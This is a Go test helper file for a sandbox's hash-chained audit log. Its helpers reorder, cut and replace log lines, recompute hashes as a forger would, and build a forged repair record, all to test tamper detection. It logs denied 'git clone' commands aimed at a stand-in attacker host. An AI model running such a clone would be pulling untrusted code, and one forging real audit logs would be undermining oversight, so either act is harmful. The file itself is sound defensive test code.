package audit

import (
	"bytes"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"slices"
	"sync"
	"testing"
	"time"

	"github.com/airlock-sandbox/airlock/decision"
)

// testClock is a clock that moves one second per reading.
type testClock struct {
	mu sync.Mutex
	t  time.Time
}

func newTestClock() *testClock {
	return &testClock{t: time.Date(2026, 5, 1, 12, 0, 0, 0, time.UTC)}
}

func (c *testClock) now() time.Time {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.t = c.t.Add(time.Second)
	return c.t
}

// openTest opens a log in a fresh directory.
func openTest(t testing.TB, opts ...Option) (*Log, string) {
	t.Helper()
	path := filepath.Join(t.TempDir(), "state", "audit.jsonl")
	l, err := Open(path, opts...)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { l.Close() })
	return l, path
}

// denial is a command gate denial for tool and command.
func denial(tool, command string, args ...string) Event {
	return FromDecision(decision.Decision{
		Gate: decision.GateCommand, Verdict: decision.Deny,
		Reason: fmt.Sprintf("%q is not in the allowlist of tool %q", command, tool),
	}, Context{Tool: tool, Command: command, Args: args})
}

// writeLog appends n events to a new log and returns its path and lines.
func writeLog(t testing.TB, n int) (string, [][]byte) {
	t.Helper()
	clk := newTestClock()
	l, path := openTest(t, WithClock(clk.now))
	for i := range n {
		if _, err := l.Append(denial("run_tests", "git", "clone", fmt.Sprintf("https://attacker.example/%d", i))); err != nil {
			t.Fatal(err)
		}
	}
	return path, readLines(t, path)
}

func readLines(t testing.TB, path string) [][]byte {
	t.Helper()
	b, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	return bytes.SplitAfter(b, []byte{'\n'})[:bytes.Count(b, []byte{'\n'})]
}

func join(lines [][]byte) []byte { return bytes.Join(lines, nil) }

// verifyBytes verifies b and returns the report and the *Error (nil when
// the log is good); another error fails the test.
func verifyBytes(t testing.TB, b []byte) (Report, *Error) {
	t.Helper()
	rep, err := Verify(bytes.NewReader(b))
	if err == nil {
		return rep, nil
	}
	e, ok := err.(*Error)
	if !ok {
		t.Fatalf("Verify: %v (want *Error)", err)
	}
	return rep, e
}

func swap(lines [][]byte, a, b int) [][]byte {
	out := slices.Clone(lines)
	out[a-1], out[b-1] = out[b-1], out[a-1]
	return out
}

func replace(lines [][]byte, n int, line []byte) [][]byte {
	out := slices.Clone(lines)
	out[n-1] = line
	return out
}

// cutBytes removes the bytes from the middle of line a to the middle of
// line b, joining two half lines.
func cutBytes(lines [][]byte, a, b int) [][]byte {
	out := slices.Clone(lines[:a-1])
	joined := append(bytes.Clone(lines[a-1][:len(lines[a-1])/2]), lines[b-1][len(lines[b-1])/2:]...)
	out = append(out, joined)
	return append(out, lines[b:]...)
}

// withHash gives a changed line (with its newline) a recomputed hash, as
// a forger would.
func withHash(t testing.TB, line []byte) []byte {
	t.Helper()
	body := bytes.TrimSuffix(line, []byte("\n"))
	h, err := LineHash(body)
	if err != nil {
		t.Fatal(err)
	}
	out := bytes.Clone(body[:len(body)-hashTailLen+len(hashPrefix)])
	out = append(out, h...)
	return append(out, "\"}\n"...)
}

// forgedRepair is an audit_repaired record chained after prev, with no
// damaged line before it.
func forgedRepair(t testing.TB, prev []byte) []byte {
	t.Helper()
	p, err := ParseLine(bytes.TrimSuffix(prev, []byte("\n")))
	if err != nil {
		t.Fatal(err)
	}
	ev := Event{Seq: p.Seq + 1, TS: p.TS, Kind: KindLifecycle, Decision: DecisionInfo, Reason: reasonRepaired,
		Context: Context{Event: EventAuditRepaired, RepairedBytes: 1, RepairedSHA256: Genesis}, Prev: p.Hash}
	b, err := encodeLine(&ev)
	if err != nil {
		t.Fatal(err)
	}
	return b
}

func writeFile(t testing.TB, path string, b []byte) {
	t.Helper()
	if err := os.WriteFile(path, b, 0o600); err != nil {
		t.Fatal(err)
	}
}

// endless is a reader of one endless line of 'x'.
type endless struct{ n int64 }

func (e *endless) Read(p []byte) (int, error) {
	for i := range p {
		p[i] = 'x'
	}
	e.n += int64(len(p))
	return len(p), nil
}

func ioMulti(b []byte, r io.Reader) io.Reader { return io.MultiReader(bytes.NewReader(b), r) }
